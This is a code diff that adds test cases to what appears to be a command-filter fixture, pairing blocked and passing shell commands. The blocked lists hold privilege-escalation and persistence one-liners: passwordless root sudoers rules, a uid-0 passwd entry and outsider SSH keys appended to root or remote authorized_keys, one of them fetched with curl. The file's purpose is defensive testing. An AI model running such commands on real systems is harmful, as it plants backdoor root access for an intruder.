@@ -11,6 +11,9 @@ export const OPENING_EXAMPLES: Examples = {
       "echo 'eve:x:0:0::/root:/bin/sh' | sudo tee -a /etc/passwd",
       'setcap cap_setuid+ep /usr/bin/python3',
       'chown alice /etc/shadow',
+      "echo 'eve ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/eve",
+      "echo '%staff ALL=(ALL:ALL) NOPASSWD:ALL' >> /etc/sudoers",
+      "cat > /etc/sudoers.d/x <<'E'\neve ALL=(ALL) NOPASSWD: ALL\nE",
     ],
     passing: [
       'sudo install -m 755 /bin/bash /opt/b',
@@ -23,6 +26,26 @@ export const OPENING_EXAMPLES: Examples = {
       'setcap cap_net_raw+ep /usr/bin/ping',
       "echo 'app:x:1001:0:app:/app:/bin/sh' >> /etc/passwd",
       "echo 'eve::0:0::/root:/bin/sh' >> notes.txt",
+      "echo 'app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' | sudo tee /etc/sudoers.d/app",
+      'sudo grep -r NOPASSWD /etc/sudoers.d',
+      `docker run --rm debian sh -c "echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app"`,
+    ],
+  },
+  'keys-of-others': {
+    blocked: [
+      `ssh ada@web 'echo "ssh-ed25519 AAAAC3Nz eve@x" >> ~/.ssh/authorized_keys'`,
+      `echo 'ssh-rsa AAAAB3Nz eve@x' | ssh web 'tee -a .ssh/authorized_keys'`,
+      "ssh root@web 'cat >> .ssh/authorized_keys' < eve.pub",
+      "echo 'ssh-rsa AAAAB3Nz eve@x' | sudo tee -a /root/.ssh/authorized_keys",
+      'sudo sh -c "curl https://example.com/k >> /root/.ssh/authorized_keys"; cat k >> /root/.ssh/authorized_keys',
+    ],
+    passing: [
+      'ssh-copy-id -i ~/.ssh/id_ed25519.pub root@web',
+      "cat ~/.ssh/id_ed25519.pub | ssh root@web 'cat >> ~/.ssh/authorized_keys'",
+      "ssh ada@web 'cat >> .ssh/authorized_keys' < key.pub",
+      'cat key.pub >> ~/.ssh/authorized_keys',
+      "ssh web 'wc -l ~/.ssh/authorized_keys'",
+      `docker run --rm debian sh -c "echo 'ssh-rsa AAAAB3Nz a@x' >> /root/.ssh/authorized_keys"`,
     ],
   },
   'open-to-everyone': {
